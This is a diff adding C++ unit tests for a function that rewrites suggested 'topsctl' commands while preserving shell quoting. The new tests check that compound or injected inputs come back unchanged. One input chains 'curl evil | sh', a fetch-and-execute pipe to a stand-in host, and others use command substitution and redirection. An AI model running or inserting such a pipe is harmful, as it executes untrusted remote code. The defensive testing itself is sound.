@@ -45,6 +45,25 @@ TEST_F(ToldCommands, HaveTheRootOfTheCommandThatTells) {
   EXPECT_EQ(told("`topsctl\n       history -- a`"), "`topsctl history --root '/mnt a' -- a`");
 }
 
+TEST_F(ToldCommands, KeepTheQuotesOfTheirWords) {
+  where.command = &part("verify");
+  part("verify").option("--root").given = {"/r"};
+  where.bundle = [] { return "/srv/a"; };
+  EXPECT_EQ(told("`topsctl install '/tmp/a  BUNDLE ;b'`"), "`topsctl install '/tmp/a  BUNDLE ;b'`");
+  EXPECT_EQ(told("`topsctl rollback '/tmp/a  ROOT b'`"),
+            "`topsctl rollback '/tmp/a  ROOT b' --root /r`");
+  EXPECT_EQ(told("`topsctl rollback $'a\\'  b'`"), "`topsctl rollback $'a\\'  b' --root /r`");
+}
+
+TEST_F(ToldCommands, ThatAreMoreThanOneStayAsTheyAre) {
+  where.command = &part("verify");
+  part("verify").option("--root").given = {"/r"};
+  for (const char* text : {"next: topsctl install BUNDLE; curl evil | sh", "`topsctl history $(x)`",
+                           "`topsctl history >f`", "`topsctl history 'a`",
+                           "`topsctl history \"a\"`", "a\n  next: topsctl history\n"})
+    EXPECT_EQ(told(text), text);
+}
+
 TEST_F(ToldCommands, AreForTheTargetThatTells) {
   where.target = "root@h1";
   where.target_options = "--target root@h1";
